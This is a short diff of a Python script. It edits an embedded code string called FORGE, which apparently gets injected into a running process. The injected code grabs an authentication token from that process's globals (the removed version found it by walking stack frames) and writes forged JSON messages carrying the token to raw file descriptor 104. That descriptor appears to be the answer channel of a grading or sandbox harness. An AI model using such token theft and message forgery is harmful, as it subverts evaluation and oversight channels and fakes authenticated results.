@@ -272,21 +272,14 @@ for thread in threads: thread.join()
 
 
 FORGE = """
-import sys, os, json, base64
+import os, json, base64
 def forge(header, *segments):
-    token = sys.modules['__main__'].__dict__.get('token') or find()
-    line = json.dumps({'token': token, **header}).encode()
+    line = json.dumps({'token': display.__globals__['token'], **header}).encode()
     for segment in segments:
         line += b'\\t' + base64.b64encode(segment)
     line += b'\\n'
     while line:
         line = line[os.write(104, line):]
-def find():
-    frame = sys._getframe()
-    while frame is not None:
-        if 'request' in frame.f_globals and 'answers_fd' in frame.f_globals:
-            return frame.f_globals['request']['token']
-        frame = frame.f_back
 """
 
 
